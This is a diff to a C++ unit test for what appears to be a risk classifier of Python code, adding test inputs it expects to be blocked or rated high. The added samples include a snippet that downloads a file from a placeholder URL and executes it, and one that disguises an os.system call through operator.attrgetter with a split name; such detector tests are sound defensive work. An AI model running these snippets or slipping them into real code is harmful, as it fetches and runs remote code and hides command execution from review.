@@ -67,6 +67,11 @@ TEST(AssessCapabilities, IntentAcrossCalls) {
   EXPECT_EQ(level("b = [0]\nwhile 1:\n    b *= 2\n"), RiskLevel::blocked);
   EXPECT_EQ(level("n = 0\nwhile True:\n    n += 1\n    t = t + 1\n    print(n)\n"), RiskLevel::low);
   EXPECT_EQ(level("x = 'a'\nfor _ in range(10):\n    x = x + x\n"), RiskLevel::low);
+  EXPECT_EQ(level("import urllib.request, subprocess\nurllib.request.urlretrieve('http://x/p', '/tmp/p')\n"
+                  "subprocess.run(['/tmp/p'])\n"),
+            RiskLevel::blocked);
+  // attrgetter with a computed name hides the call it reaches, like getattr.
+  EXPECT_EQ(level("import operator, os\noperator.attrgetter('sy' + 'stem')(os)('id')\n"), RiskLevel::high);
   EXPECT_EQ(level("import socketserver\nsocketserver.TCPServer(('0.0.0.0', 9000), None).serve_forever()\n"),
             RiskLevel::high);
 }
